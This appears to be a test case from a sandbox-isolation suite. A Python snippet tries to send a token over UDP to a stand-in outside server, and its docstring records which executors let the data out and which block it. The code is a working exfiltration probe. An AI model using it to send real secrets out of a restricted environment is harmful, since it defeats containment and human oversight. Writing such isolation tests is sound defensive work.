"""Send data out over UDP.

Attempts:  send one to a server that stands in for one outside.
Success:   the stand-in hears it.
Proof:     heard udp
Wait:      0.3
Runs:      python
Executor:  import rule
Host:      lets it through: any network that reaches the outside can carry data out
Socket:    no network (ENETUNREACH)
"""

import socket

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    sender.sendto(target["token"].encode(), (target["outside"], target["udp"]))
